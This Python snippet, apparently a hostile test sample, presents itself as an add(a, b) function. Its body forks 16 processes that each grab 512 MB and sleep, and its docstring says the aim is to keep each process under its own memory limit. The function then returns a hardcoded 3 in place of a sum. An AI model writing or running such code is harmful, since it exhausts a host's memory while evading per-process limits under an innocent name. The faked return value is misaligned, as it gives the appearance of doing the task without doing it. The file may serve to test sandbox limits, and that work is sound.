"""Spreads memory over many processes, each of them below its own limit."""

import os
import time


def add(a, b):
    for _ in range(16):
        if os.fork() == 0:
            taken = bytearray(b"x") * (512 << 20)
            time.sleep(10)
            os._exit(len(taken) % 2)
    return 3
